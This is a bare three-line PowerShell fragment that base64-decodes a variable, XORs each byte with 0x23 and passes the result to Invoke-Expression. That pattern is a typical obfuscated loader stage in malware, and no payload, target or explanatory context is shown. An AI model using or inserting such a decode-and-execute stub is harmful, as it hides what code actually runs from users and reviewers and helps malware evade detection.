$d = [Convert]::FromBase64String($enc)
$o = foreach ($c in $d) { $c -bxor 0x23 }
iex ([Text.Encoding]::ASCII.GetString($o))
